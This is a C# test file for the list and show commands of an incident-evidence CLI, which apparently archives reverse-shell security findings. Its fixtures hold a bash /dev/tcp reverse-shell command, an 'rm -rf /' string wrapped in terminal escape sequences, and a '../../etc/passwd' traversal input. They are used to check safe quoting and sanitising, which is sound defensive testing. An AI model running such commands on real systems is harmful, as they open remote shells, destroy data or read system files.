using System.Text.Json;
using ReverseShellFunction.Bundle;
using ReverseShellFunction.Cli;
using ReverseShellFunction.Tests.Support;

namespace ReverseShellFunction.Tests.Cli;

/// <summary>list and show: read the index only, newest first, filtered, and safe to print.</summary>
public abstract partial class AuditCommandsTest
{
    private static readonly SampleEvent s_older = new() { FindingId = "1111aaaa", EventTime = new DateTimeOffset(2026, 11, 20, 8, 0, 0, TimeSpan.Zero), Project = "shop-dev-1", Service = "cart" };
    private static readonly SampleEvent s_middle = new() { FindingId = "2222bbbb", EventTime = new DateTimeOffset(2026, 11, 25, 12, 30, 0, TimeSpan.Zero), Category = "Reverse Shell Variant" };
    private static readonly SampleEvent s_newest = new() { FindingId = "3333cccc", EventTime = new DateTimeOffset(2026, 11, 28, 21, 14, 7, 482, TimeSpan.Zero) };

    [Fact]
    public async Task List_ShowsNewestFirst_FitsOneHundredColumns_WithTheShortIdAndCompleteness()
    {
        var older = await SeedAsync(s_older);
        var newest = await SeedAsync(s_newest);
        var middle = await SeedAsync(s_middle);

        var result = await RunAsync("list");

        Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
        var lines = result.Output.Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("EVENT TIME (UTC)  SEVERITY  SERVICE       REMOTE              STATE                    ID", lines[0].TrimEnd());
        Assert.Equal([newest.Value[^12..], middle.Value[^12..], older.Value[^12..]], lines.Skip(1).Select(l => l.Split("  ", StringSplitOptions.RemoveEmptyEntries)[^1]));
        // Not checked against SCC and a collector failed for good: marked, in the state words.
        Assert.Equal($"2026-11-20 08:00  CRITICAL  cart          198.51.100.23:4444  ! unchecked, incomplete  {older.Value[^12..]}", lines[3]);
        Assert.All(lines, l => Assert.True(l.Length <= 100, $"{l.Length} columns: {l}"));
    }

    [Theory]
    [InlineData(100)]
    [InlineData(80)]
    public async Task List_LongNames_AreShortenedInTheMiddle_AndFitTheWidth(int width)
    {
        const string LongService = "payments-checkout-api-europe-west1-canary-blue-green-service";
        var id = await SeedAsync(new SampleEvent { Service = LongService, Project = "a-very-long-project-identifier-for-payments-prod" });

        var result = await RunAsync("list", "--width", width.ToString(System.Globalization.CultureInfo.InvariantCulture));

        Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
        var lines = result.Output.Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
        Assert.All(lines, l => Assert.True(l.Length <= width, $"{l.Length} > {width}: {l}"));
        var service = lines[1].Split("  ", StringSplitOptions.RemoveEmptyEntries)[1..].First(c => c.Contains('…', StringComparison.Ordinal));
        Assert.StartsWith("payments", service, StringComparison.Ordinal);
        Assert.EndsWith("service", service, StringComparison.Ordinal);
        Assert.EndsWith(id.Value[^12..], lines[1], StringComparison.Ordinal);
        Assert.StartsWith("EVENT TIME (UTC)", lines[0], StringComparison.Ordinal);
        if (width == 80)
        {
            // The least needed columns go first when narrow.
            Assert.DoesNotContain("PROJECT", lines[0], StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task List_Wide_PrintsEveryColumnInFull()
    {
        var id = await SeedAsync();

        var result = await RunAsync("list", "--wide");

        var lines = result.Output.Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(["EVENT TIME (UTC)", "SEVERITY", "CATEGORY", "PROJECT", "SERVICE", "REVISION", "REMOTE", "BINARY", "STATE", "COLLECTORS", "BUNDLE ID"], System.Text.RegularExpressions.Regex.Split(lines[0], @"\s{2,}"));
        Assert.EndsWith(id.Value, lines[1], StringComparison.Ordinal);
        Assert.Contains("2026-11-28 21:14:07.482  CRITICAL  Reverse Shell", lines[1], StringComparison.Ordinal);
        Assert.Contains("/bin/bash  ! unchecked, incomplete  3 ok, 1 failed  ", lines[1], StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(new[] { "--since", "2026-11-25" }, new[] { "3333cccc", "2222bbbb" })]
    [InlineData(new[] { "--until", "2026-11-25" }, new[] { "2222bbbb", "1111aaaa" })]
    [InlineData(new[] { "--since", "2026-11-21T00:00:00Z", "--until", "2026-11-28T21:14:07Z" }, new[] { "2222bbbb" })]
    [InlineData(new[] { "--project", "shop-dev-1" }, new[] { "1111aaaa" })]
    [InlineData(new[] { "--project", "602115830917" }, new[] { "3333cccc", "2222bbbb", "1111aaaa" })]
    [InlineData(new[] { "--service", "CHECKOUT-API" }, new[] { "3333cccc", "2222bbbb" })]
    [InlineData(new[] { "--category", "reverse shell variant" }, new[] { "2222bbbb" })]
    [InlineData(new[] { "--since", "36500d" }, new[] { "3333cccc", "2222bbbb", "1111aaaa" })]
    [InlineData(new[] { "--until", "36500d" }, new string[] { })]
    public async Task List_Filters(string[] filters, string[] expectedFindingIds)
    {
        await SeedAsync(s_older);
        await SeedAsync(s_middle);
        await SeedAsync(s_newest);

        var result = await RunAsync(["list", "--json", .. filters]);

        Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
        var findings = JsonLines(result.Output).Select(e => e.GetProperty("summary").GetProperty("finding").GetProperty("name").GetString()!.Split('/')[^1]);
        Assert.Equal(expectedFindingIds, findings);
    }

    [Fact]
    public async Task List_Json_PrintsOneObjectPerBundle_WithItsStateAndTheSummaryAsStored()
    {
        var id = await SeedAsync();

        var result = await RunAsync("list", "--json");

        var line = Assert.Single(JsonLines(result.Output));
        using var stored = JsonDocument.Parse(await Store.ReadRawAsync(BundleLayout.IndexObject(id), CancellationToken.None));
        Assert.Equal(id.Value, line.GetProperty("bundleId").GetString());
        Assert.Equal(("incomplete", 1), (line.GetProperty("completeness").GetString(), line.GetProperty("parts").GetInt32()));
        Assert.Equal("audit-logs", line.GetProperty("completion").GetProperty("missing")[0].GetProperty("collector").GetString());
        Assert.True(JsonElement.DeepEquals(stored.RootElement.GetProperty("summary"), line.GetProperty("summary")));
        var part = Assert.Single(line.GetProperty("partObjects").EnumerateArray());
        Assert.Equal((BundleLayout.BundleObject(id), BundleLayout.IndexObject(id)), (part.GetProperty("bundleObject").GetString(), part.GetProperty("indexObject").GetString()));
        Assert.Equal(stored.RootElement.GetProperty("bundle").GetProperty("sha256").GetString(), part.GetProperty("sha256").GetString());
    }

    [Fact]
    public async Task Show_LeadsWithTheStateThenTheHeadlineAndWhatIsMissing_ArgumentsQuotedForAShell()
    {
        var id = await SeedAsync(new SampleEvent { Args = ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "it's", ""] });

        var result = await RunAsync("show", id.Value, "--wide");

        Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
        var lines = result.Output.Split(Environment.NewLine);
        Assert.Equal(
            "State: unchecked; incomplete (audit-logs: failed for good: PermissionDenied: the test says so). The finding could not be checked against SCC (see the scc-finding collector). Nothing more will be collected, and the evidence named is missing.",
            lines[0]);
        Assert.Equal("CRITICAL Reverse Shell on service checkout-api (project shop-prod-4471, europe-west1) at 2026-11-28 21:14:07 UTC: /bin/bash → 198.51.100.23:4444", lines[1]);
        Assert.Equal("  audit-logs:        failed (PermissionDenied: the test says so)", lines[3]);
        Assert.Contains($"  Bundle:            {id}", result.Output, StringComparison.Ordinal);
        Assert.Contains("  Remote:            198.51.100.23:4444", result.Output, StringComparison.Ordinal);
        Assert.Contains("  Arguments:         bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1' 'it'\\''s' ''", result.Output, StringComparison.Ordinal);
        Assert.Contains("Collectors (3 ok, 1 failed)", result.Output, StringComparison.Ordinal);
        Assert.Contains("  audit-logs:        0 items, failed (PermissionDenied: the test says so)", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Show_AcceptsTheFindingIdTheFindingNameAndTheShortId()
    {
        var id = await SeedAsync();
        await SeedAsync(s_older);

        foreach (var text in new[] { "5f1c8e0a2b7d4e6f9a0b1c2d3e4f5a6b", "organizations/418230051457/sources/9347120561842215403/locations/global/findings/5f1c8e0a2b7d4e6f9a0b1c2d3e4f5a6b", id.Value[^12..] })
        {
            var result = await RunAsync("show", text);

            Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
            Assert.Contains($"  Bundle:            {id}", result.Output, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("0123456789abcdef")]
    [InlineData("nosuchfinding")]
    [InlineData("organizations/1/sources/2/findings/nosuchfinding")]
    public async Task Show_UnknownFindingOrShortId_IsNotFound_ExitsOne(string text)
    {
        await SeedAsync();

        var result = await RunAsync("show", text);

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        Assert.StartsWith($"error: not found: no bundle for '{text}' in ", result.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Show_Json_PrintsTheIndexEntry()
    {
        var id = await SeedAsync();

        var result = await RunAsync("show", id.Value, "--json");

        using var printed = JsonDocument.Parse(result.Output);
        using var stored = JsonDocument.Parse(await Store.ReadRawAsync(BundleLayout.IndexObject(id), CancellationToken.None));
        Assert.True(JsonElement.DeepEquals(stored.RootElement, printed.RootElement));
    }

    [Fact]
    public async Task ListAndShow_HostileFindingText_ReachesTheTerminalWithoutControlCharacters()
    {
        var id = await SeedAsync(new SampleEvent { Args = ["sh", "-c", "\u001b[2J\u001b]0;owned\u0007 rm -rf /\r\n", "/bin/\u202eexe.hs"] });

        var list = await RunAsync("list");
        var show = await RunAsync("show", id.Value);

        // Escapes, BEL, CR and the right-to-left override are shown as what they are, never acted on; show quotes the argument.
        Assert.Contains(@"'\u001b[2J\u001b]0;owned\u0007 rm -rf /\u000d\u000a'", show.Output, StringComparison.Ordinal);
        Assert.Contains("/bin/\\u202eexe.hs", show.Output, StringComparison.Ordinal);
        Assert.DoesNotContain(show.Output.Concat(list.Output), c => (char.IsControl(c) && c is not '\n' and not '\r') || c == '\u202e');
    }

    [Theory]
    [InlineData("../../etc/passwd")]
    [InlineData("")]
    [InlineData("20261128T211407482Z-abc")]
    [InlineData("20261128T211407482Z-abc-0123456789abcdef/../x")]
    [InlineData("\u001b[31m20261128T211407482Z-abc-0123456789abcdef")]
    public async Task Show_BadId_ExitsTwoWithAClearError(string badId)
    {
        var result = await RunAsync("show", badId);

        Assert.Equal(ExitCodes.Usage, result.ExitCode);
        Assert.Contains("is not a bundle id, the ID list prints, a finding id, a finding name or a bundle zip's path: a bundle id is yyyyMMddTHHmmssfffZ-<finding id>-<16 hex digits>", result.Error, StringComparison.Ordinal);
        Assert.DoesNotContain('\u001b', result.Error);
    }

    [Fact]
    public async Task Show_UnknownId_ExitsOne()
    {
        var result = await RunAsync("show", "20261128T211407482Z-abc-0123456789abcdef");

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        Assert.Contains("error: not found: no index entry for bundle 20261128T211407482Z-abc-0123456789abcdef", result.Error, StringComparison.Ordinal);
    }
}
